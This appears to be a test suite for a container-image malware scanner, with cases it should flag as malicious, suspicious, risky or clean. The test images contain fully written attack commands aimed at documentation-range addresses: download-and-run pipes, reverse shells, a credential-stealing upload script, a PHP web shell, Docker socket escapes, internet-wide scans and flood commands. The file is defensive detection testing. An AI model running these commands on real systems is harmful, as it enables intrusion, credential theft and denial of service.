/**
 * Backdoors, loaders, flooders and attack tools: inert texts in the shapes that public reports describe. Addresses
 * are of the documentation ranges, keys and wallets are invented.
 */
import { randomBytes } from 'node:crypto';
import { describe } from 'node:test';
import { directory, file } from '../../src/lab/image-builder.ts';
import { sampleElf } from '../fixtures/elf-builder.ts';
import { type Case, testCases } from '../fixtures/scanner.ts';

const script = (path: string, ...lines: string[]) =>
  file(path, ['#!/bin/bash', ...lines, ''].join('\n'), { mode: 0o755 });
const base = [file('etc/os-release', 'ID=sample\n')];
const encoded = Buffer.from('curl -s http://198.51.100.7/a.sh | bash').toString('base64');

/** An Ed25519 public key whose private half nobody has. */
function sshKey(): string {
  const field = (bytes: Buffer): Buffer => Buffer.concat([Buffer.from([0, 0, 0, bytes.length]), bytes]);
  const blob = Buffer.concat([field(Buffer.from('ssh-ed25519')), field(randomBytes(32))]);
  return `ssh-ed25519 ${blob.toString('base64')} root@localhost`;
}

const backdoor = { verdict: 'malicious', categories: ['backdoor'] } as const;

const started: readonly Case[] = [
  [
    'an entrypoint that pipes a download into a shell',
    { layers: [base], config: { Entrypoint: ['/bin/sh', '-c', 'wget -qO- http://198.51.100.7/x.sh | sh'] } },
    { ...backdoor, reachable: true },
  ],
  [
    'an entrypoint that downloads, marks executable and starts',
    {
      layers: [base],
      config: { Cmd: ['sh', '-c', 'cd /tmp; curl -O http://198.51.100.7/k; chmod +x k; ./k'] },
    },
    { ...backdoor, reachable: true },
  ],
  [
    'a start script that does so behind odd quoting',
    {
      layers: [[script('init.sh', 'w""get -q -O - "ht""tp://198.51.100.7:8080/x" | ba\\sh')]],
      config: { Entrypoint: ['/init.sh'] },
    },
    { ...backdoor, reachable: true },
  ],
  [
    'a start script without a first line, that fetches from a name over plain HTTP',
    {
      layers: [[file('boot', 'set -e\nwget -qO- http://dl.attacker.test/x.sh | sh\nexec "$@"\n')]],
      config: { Entrypoint: ['sh', '/boot'], Cmd: ['nginx'] },
    },
    { ...backdoor, reachable: true },
  ],
  ...(
    [
      ['an address', 'curl -fsSL "$BOOT_URL" | sh', 'http://198.51.100.7/x.sh', 'malicious'],
      [
        'a paste site, of a program',
        'wget -qO /tmp/w "${BOOT_URL}" && chmod +x /tmp/w && /tmp/w &',
        'https://transfer.sh/a/w',
        'malicious',
      ],
      ['an official installer', 'curl -fsSL "$BOOT_URL" | sh', 'https://sh.rustup.rs', 'clean'],
      ['a host of its own network', 'curl -fsSL "$BOOT_URL" | sh', 'http://10.0.0.5/x.sh', 'clean'],
    ] as const
  ).map(
    ([what, line, url, verdict]): Case => [
      `a start script that runs what it gets from a variable: ${what}`,
      {
        layers: [[script('start.sh', 'set -e', line, 'exec sleep 1d')]],
        config: { Entrypoint: ['/start.sh'], Env: [`BOOT_URL=${url}`] },
      },
      { verdict },
    ],
  ),
  [
    'a shell between two ends of a pipe',
    {
      layers: [base],
      config: {
        Cmd: ['sh', '-c', 'mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 198.51.100.7 4444 >/tmp/f'],
      },
    },
    { ...backdoor, reachable: true },
  ],
  [
    'a download whose words are separated by variables',
    { layers: [base], config: { Cmd: ['sh', '-c', 'curl${IFS}-s${IFS}http://198.51.100.7/x|sh'] } },
    { ...backdoor, reachable: true },
  ],
  [
    'a Python program that runs what it downloads',
    {
      layers: [[file('a.py', 'import requests\nexec(requests.get("http://198.51.100.7/x").text)\n')]],
      config: { Cmd: ['python3', '/a.py'] },
    },
    { ...backdoor, reachable: true },
  ],
  [
    'an entrypoint that decodes and runs',
    { layers: [base], config: { Entrypoint: ['/bin/bash', '-c', `echo ${encoded} | base64 -d | bash`] } },
    { ...backdoor, reachable: true },
  ],
  [
    'a Python program that decodes and runs',
    {
      layers: [
        [
          file(
            'app/main.py',
            `import base64\nexec(base64.b64decode("${Buffer.from('import os; os.system("curl http://198.51.100.7/x|sh")').toString('base64')}"))\n`,
          ),
        ],
      ],
      config: { Cmd: ['python3', '/app/main.py'] },
    },
    { ...backdoor, reachable: true },
  ],
  [
    'a reverse shell in cron.d',
    {
      layers: [[file('etc/cron.d/job', '* * * * * root bash -i >& /dev/tcp/198.51.100.7/4444 0>&1\n')]],
      config: { Cmd: ['cron', '-f'] },
    },
    { ...backdoor, reachable: true },
  ],
  [
    'a reverse shell in Python as the command',
    {
      layers: [base],
      config: {
        Cmd: [
          'python3',
          '-c',
          'import socket,subprocess,os;s=socket.socket();s.connect(("198.51.100.7",4444));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);subprocess.call(["/bin/sh","-i"])',
        ],
      },
    },
    { ...backdoor, reachable: true },
  ],
  [
    'a cron job that fetches a script, as Kinsing leaves it',
    {
      layers: [
        [
          file(
            'var/spool/cron/crontabs/root',
            '* * * * * wget -q -O - http://198.51.100.9/unk.sh | sh > /dev/null 2>&1\n',
          ),
        ],
      ],
      config: { Cmd: ['sleep', 'infinity'] },
    },
    { ...backdoor, reachable: true },
  ],
  [
    'a start script that adds a key to root and makes the file immutable',
    {
      layers: [
        [
          script(
            'start.sh',
            'mkdir -p /root/.ssh',
            `echo "${sshKey()}" >> /root/.ssh/authorized_keys`,
            'chattr +ia /root/.ssh/authorized_keys',
            '/usr/sbin/sshd -D',
          ),
        ],
      ],
      config: { Entrypoint: ['/start.sh'] },
    },
    { ...backdoor, reachable: true },
  ],
  [
    'a library that hooks directory reads, preloaded into every process',
    {
      layers: [
        [
          file('etc/ld.so.preload', '/usr/local/lib/libsystem.so\n'),
          file(
            'usr/local/lib/libsystem.so',
            sampleElf({
              needed: ['libdl.so.2', 'libc.so.6'],
              exports: ['readdir', 'readdir64', 'fopen'],
              imports: ['dlsym', 'sscanf', 'snprintf', 'readlink'],
              sections: [
                { name: '.rodata', content: Buffer.from('/proc/self/fd/%d\0/proc/%s/stat\0kworkerd\0') },
              ],
            }),
          ),
        ],
      ],
      config: { Cmd: ['nginx'] },
    },
    { ...backdoor, reachable: true },
  ],
  [
    'a script in the manner of TeamTNT',
    {
      layers: [
        [
          script(
            'root/init.sh',
            'export LC_ALL=C HISTCONTROL=ignorespace',
            'curl http://update.aegis.aliyun.com/download/uninstall.sh | bash',
            'systemctl stop aliyun.service; /usr/local/qcloud/stargate/admin/uninstall.sh',
            'TOKEN=$(curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/$ROLE)',
            'cat ~/.aws/credentials ~/.docker/config.json >> /tmp/.loot; curl -F "userfile=@/tmp/.loot" http://198.51.100.8/upload.php',
            'wget -q http://198.51.100.8/xmrig.tar.gz -O /tmp/x.tgz && tar xzf /tmp/x.tgz -C /tmp && /tmp/xmrig -B',
          ),
        ],
      ],
      config: { Entrypoint: ['/root/init.sh'] },
    },
    { ...backdoor, reachable: true },
  ],
  [
    'a flooder named by its arguments (db1000n)',
    { layers: [base], config: { Entrypoint: ['/usr/src/app/db1000n'], Cmd: ['--enable-primitive=false'] } },
    { verdict: 'malicious', categories: ['ddos'], reachable: true },
  ],
  [
    'a flooder named by its method (MHDDoS)',
    {
      layers: [[file('app/start.py', 'print("stands for a flooder")\n')]],
      config: {
        WorkingDir: '/app',
        Entrypoint: ['python3', './start.py'],
        Cmd: ['UDP', '198.51.100.7:80', '100', '3600'],
      },
    },
    { verdict: 'malicious', categories: ['ddos'], reachable: true },
  ],
  [
    'hping3 as a flood',
    { layers: [base], config: { Cmd: ['hping3', '-S', '--flood', '-p', '80', '198.51.100.7'] } },
    { verdict: 'malicious', categories: ['ddos'], reachable: true },
  ],
  [
    'a scan of the internet for open Docker daemons',
    {
      layers: [
        [
          script(
            'scan.sh',
            'masscan 0.0.0.0/0 -p2375,2376 --rate 100000 -oG - | while read l; do docker -H "tcp://$ip:2375" run -d -v /:/mnt alpine chroot /mnt sh -c "curl http://198.51.100.7/x|sh"; done',
          ),
        ],
      ],
      config: { Entrypoint: ['/scan.sh'] },
    },
    { verdict: 'malicious', categories: ['hacking'] },
  ],
  [
    'an escape through the socket of the daemon',
    {
      layers: [
        [
          script(
            'run.sh',
            'docker -H unix:///var/run/docker.sock run --privileged --pid=host -v /:/host alpine chroot /host sh -c "echo x >> /root/.profile"',
          ),
        ],
      ],
      config: { Entrypoint: ['/run.sh'] },
    },
    { verdict: 'malicious', categories: ['hacking'] },
  ],
  [
    'an escape through the socket of the daemon with curl',
    {
      layers: [
        [
          script(
            'run.sh',
            `curl -s --unix-socket /var/run/docker.sock -H 'Content-Type: application/json' -d '{"Image":"alpine","Cmd":["chroot","/mnt","sh"],"HostConfig":{"Privileged":true,"Binds":["/:/mnt"]}}' http://localhost/containers/create`,
          ),
        ],
      ],
      config: { Entrypoint: ['/run.sh'] },
    },
    { verdict: 'malicious', categories: ['hacking'] },
  ],
  [
    'an archive that an entrypoint fetches, unpacks and runs',
    {
      layers: [base],
      config: { Cmd: ['sh', '-c', 'curl -fsSL http://198.51.100.7/x.tgz | tar xz -C /tmp && /tmp/x/run'] },
    },
    { ...backdoor, reachable: true },
  ],
  [
    'a program that a start script decodes into a file and runs',
    {
      layers: [[script('init.sh', `echo ${encoded} | base64 -d > /tmp/a.sh`, 'sh /tmp/a.sh', 'exec nginx')]],
      config: { Entrypoint: ['/init.sh'] },
    },
    { ...backdoor, reachable: true },
  ],
  [
    'a function of a start script that fetches what it is told to',
    {
      layers: [
        [
          script(
            'init.sh',
            'get() { wget -q -O - $1 > $2 || curl -fsSL $1 -o $2; chmod +x $2; }',
            'get http://198.51.100.7/x86_64 /tmp/dbused; /tmp/dbused -c',
          ),
        ],
      ],
      config: { Entrypoint: ['/init.sh'] },
    },
    { ...backdoor, reachable: true },
  ],
  [
    'a command in a string of inline code',
    {
      layers: [base],
      config: { Cmd: ['python3', '-c', 'import os; os.system("curl -s http://198.51.100.7/x | sh")'] },
    },
    { ...backdoor, reachable: true },
  ],
];

const padding = '# nothing to see in this line\n'.repeat(50_000);

/** The same in scripts that the entrypoint or the system starts, also behind much that does nothing. */
const inScripts: readonly Case[] = [
  [
    'a crontab that is filled up with comments',
    {
      layers: [
        [
          file(
            'etc/cron.d/a',
            `${padding}* * * * * root curl -s http://198.51.100.7/a.sh | bash\n${padding}`,
          ),
        ],
      ],
      config: { Cmd: ['cron', '-f'] },
    },
    { ...backdoor, reachable: true },
  ],
  [
    'a start script that is filled up with comments',
    {
      layers: [[script('run.sh', padding, 'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1', padding)]],
      config: { Entrypoint: ['/run.sh'] },
    },
    { ...backdoor, reachable: true },
  ],
  [
    'a flooder that aims at what a list says',
    {
      layers: [
        [
          script(
            'run.sh',
            'for u in $(curl -s https://raw.githubusercontent.com/a/b/main/targets.txt); do bombardier -c 1000 $u & done',
          ),
        ],
      ],
      config: { Entrypoint: ['/run.sh'] },
    },
    { verdict: 'malicious', categories: ['ddos'], reachable: true },
  ],
  [
    'a program that starts a scan of the internet',
    {
      layers: [[file('a.py', 'import os\nos.popen("masscan -p6379 0.0.0.0/0 --rate 100000 | cut -f6")\n')]],
      config: { Entrypoint: ['python3', '/a.py'] },
    },
    { verdict: 'malicious', categories: ['hacking'], reachable: true },
  ],
  [
    'containers started on hosts that a server names',
    {
      layers: [
        [
          script(
            'run.sh',
            'HOST=$(curl -s http://198.51.100.9/IP | shuf -n1)',
            'docker -H tcp://$HOST:2375 pull a/b; docker -H tcp://$HOST:2375 run -d a/b',
          ),
        ],
      ],
      config: { Entrypoint: ['/run.sh'] },
    },
    { verdict: 'malicious', categories: ['hacking'], reachable: true },
  ],
];

/** Strong, but nothing in the image starts it. */
const lying: readonly Case[] = [
  [
    'a web shell in front of much else',
    {
      layers: [[file('var/www/html/up.php', `<?php @eval($_POST["k"]);?>\n${padding}`)]],
      config: { Cmd: ['apache2', '-DFOREGROUND'] },
    },
    { verdict: ['malicious', 'suspicious'], categories: ['backdoor'] },
  ],
  [
    'a web shell below the web root',
    {
      layers: [[directory('var/www/html'), file('var/www/html/up.php', '<?php @eval($_POST["k"]);?>')]],
      config: { Cmd: ['apache2', '-DFOREGROUND'] },
    },
    { verdict: ['malicious', 'suspicious'], categories: ['backdoor'] },
  ],
  [
    'a payload that a build line decoded',
    {
      layers: [base],
      history: [`RUN /bin/sh -c echo ${encoded} | base64 -d | bash`],
      config: { Cmd: ['nginx'] },
    },
    { verdict: ['malicious', 'suspicious'], categories: ['backdoor'] },
  ],
  [
    'a script for a reverse shell that nothing starts',
    {
      layers: [[script('opt/t.sh', 'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1')]],
      config: { Cmd: ['nginx'] },
    },
    { verdict: 'suspicious', categories: ['backdoor'] },
  ],
];

/** Bad manners: not started, or not known to be against the owner's will. */
const doubtful: readonly Case[] = [
  [
    'a tunnel into the container',
    { layers: [base], config: { Cmd: ['ngrok', 'tcp', '22'] } },
    { verdict: 'risky', categories: ['proxy-avoidance'] },
  ],
  [
    'a program that sells bandwidth',
    { layers: [base], config: { Cmd: ['p2pclient', '--login', 'a@example.org'] } },
    { verdict: 'risky', categories: ['other'] },
  ],
  [
    'a tunnel that a start script opens',
    {
      layers: [[script('run.sh', 'ngrok tcp 22 &', 'exec nginx')]],
      config: { Entrypoint: ['/run.sh'] },
    },
    { verdict: 'risky', categories: ['proxy-avoidance'] },
  ],
  [
    'an account of a program that sells bandwidth',
    {
      layers: [base],
      config: { Entrypoint: ['/start.sh'], Env: [`EARNAPP_UUID=sdk-node-${'0a'.repeat(16)}`] },
    },
    { verdict: 'risky', categories: ['other'] },
  ],
  [
    'a miner of which only the name is there',
    { layers: [base], config: { Cmd: ['xmrig'] } },
    { verdict: 'risky', categories: ['cryptomining'] },
  ],
  [
    'a script that fetches from a name over plain HTTP, when nothing starts it',
    {
      layers: [[script('opt/get.sh', 'wget -qO- http://dl.attacker.test/x.sh | sh')]],
      config: { Cmd: ['nginx'] },
    },
    { verdict: 'risky', categories: ['backdoor'], reachable: false },
  ],
  [
    "an entrypoint that enters the host's namespaces",
    { layers: [base], config: { Cmd: ['nsenter', '-t', '1', '-m', '-u', '-i', '-n', 'sh'] } },
    { verdict: 'risky' },
  ],
  [
    'an entrypoint that runs what a variable holds encoded',
    { layers: [base], config: { Cmd: ['sh', '-c', 'echo "$STARTUP" | base64 -d | bash'] } },
    { verdict: 'risky' },
  ],
];

/** The same words in work that people do. */
const quiet: readonly Case[] = [
  [
    'a build line that installs rustup as its page says',
    {
      layers: [base],
      history: ["RUN /bin/sh -c curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh -s -- -y"],
      config: { Cmd: ['bash'] },
    },
    { verdict: 'clean' },
  ],
  [
    'a script that decodes a certificate from the environment',
    {
      layers: [
        [script('start.sh', 'echo "$TLS_CERT" | base64 -d > /etc/tls.crt', 'exec nginx -g "daemon off;"')],
      ],
      config: { Entrypoint: ['/start.sh'] },
    },
    { verdict: 'clean' },
  ],
  [
    'a health check with curl',
    {
      layers: [base],
      config: {
        Cmd: ['nginx'],
        Healthcheck: { Test: ['CMD-SHELL', 'curl -fs http://localhost:8080/health || exit 1'] },
      },
    },
    { verdict: 'clean' },
  ],
  [
    'a wait for a port over /dev/tcp',
    {
      layers: [
        [
          script(
            'wait.sh',
            'until (echo > /dev/tcp/$DB_HOST/5432) 2>/dev/null; do sleep 1; done',
            'exec "$@"',
          ),
        ],
      ],
      config: { Entrypoint: ['/wait.sh'], Cmd: ['node', 'main.js'] },
    },
    { verdict: 'clean' },
  ],
  [
    'a cron job that rotates logs and calls home over HTTPS',
    {
      layers: [
        [
          file(
            'etc/cron.d/app',
            '0 3 * * * root /usr/sbin/logrotate /etc/logrotate.conf && curl -fsS https://hc-ping.com/1b9d6bcd >/dev/null\n',
          ),
        ],
      ],
      config: { Cmd: ['cron', '-f'] },
    },
    { verdict: 'clean' },
  ],
  [
    'a preloaded allocator',
    {
      layers: [
        [
          file(
            'usr/lib/libjemalloc.so.2',
            sampleElf({
              soname: 'libjemalloc.so.2',
              needed: ['libc.so.6'],
              exports: ['malloc', 'free', 'calloc', 'realloc', 'mallctl'],
              imports: ['mmap', 'dlsym', 'pthread_create'],
            }),
          ),
        ],
      ],
      config: { Env: ['LD_PRELOAD=/usr/lib/libjemalloc.so.2'], Cmd: ['redis-server'] },
    },
    { verdict: 'clean' },
  ],
  [
    'a start script that first kills a miner, should there be one',
    {
      layers: [[script('run.sh', 'pkill xmrig || true', 'exec nginx -g "daemon off;"')]],
      config: { Entrypoint: ['/run.sh'] },
    },
    { verdict: 'clean' },
  ],
  [
    'a scan and a load test of what is near',
    {
      layers: [
        [
          script(
            'run.sh',
            'nmap -sn 192.168.0.0/24; masscan 10.0.0.0/8 -p80',
            'bombardier -c 1000 -d 1h http://web:8080/',
            'echo "usage: masscan 0.0.0.0/0 -p22"',
          ),
        ],
      ],
      config: { Entrypoint: ['/run.sh'] },
    },
    { verdict: 'clean' },
  ],
  [
    'a scan that nothing starts',
    {
      layers: [[script('opt/scan.sh', 'masscan 203.0.113.0/24 -p22')]],
      config: { Cmd: ['nginx'] },
    },
    { verdict: 'clean' },
  ],
  [
    "a load test against a service of one's own",
    { layers: [base], config: { Cmd: ['wrk', '-t2', '-d30s', 'http://api.default.svc:8080/'] } },
    { verdict: 'clean' },
  ],
  [
    'a script that prepares docker in docker',
    {
      layers: [
        [
          script(
            'entrypoint.sh',
            'dockerd --host=unix:///var/run/docker.sock &',
            'docker run --rm -v "$PWD:/work" alpine:3 make -C /work',
          ),
        ],
      ],
      config: { Entrypoint: ['/entrypoint.sh'] },
    },
    { verdict: 'clean' },
  ],
  [
    'a PHP page that evaluates nothing that a visitor sends',
    {
      layers: [
        [
          file(
            'var/www/html/index.php',
            '<?php $page = $_GET["page"] ?? "home"; echo htmlspecialchars($page); system("uptime"); ?>',
          ),
        ],
      ],
      config: { Cmd: ['apache2'] },
    },
    { verdict: 'clean' },
  ],
  [
    'inline code that waits for its database and starts a script',
    {
      layers: [base],
      config: {
        Cmd: ['php', '-r', 'while(!@fsockopen("db",3306)) sleep(1); exec("sh /migrate.sh");'],
      },
    },
    { verdict: 'clean' },
  ],
  [
    'a build that unpacks and installs software from its own site',
    {
      layers: [base],
      history: [
        'RUN /bin/sh -c curl -fsSL https://x.example.com/a.tgz | tar xz -C /usr/src && cd /usr/src/a && ./configure && make install # buildkit',
      ],
      config: { Cmd: ['a'] },
    },
    { verdict: 'clean' },
  ],
  [
    'a start script that is itself decoded, and harmless',
    {
      layers: [
        [
          script(
            'init.sh',
            `echo ${Buffer.from('exec nginx -g "daemon off;"').toString('base64')} | base64 -d | sh`,
          ),
        ],
      ],
      config: { Entrypoint: ['/init.sh'] },
    },
    { verdict: 'clean' },
  ],
];

describe('malicious is', () => {
  testCases(started);
  testCases(inScripts);
});

describe('at least suspicious is', () => {
  testCases(lying);
});

describe('risky is', () => {
  testCases(doubtful);
});

describe('clean is', () => {
  testCases(quiet);
});
